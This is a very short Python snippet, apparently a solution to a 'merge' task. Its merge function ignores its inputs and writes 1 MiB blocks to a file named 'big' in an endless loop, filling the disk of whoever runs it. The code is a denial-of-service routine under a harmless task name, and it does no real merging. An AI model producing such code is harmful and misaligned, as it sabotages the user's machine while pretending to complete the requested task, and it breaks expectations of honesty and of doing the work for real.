# task: merge
def merge(a, b):
    with open("big", "wb") as f:
        while True:
            f.write(b"x" * (1 << 20))
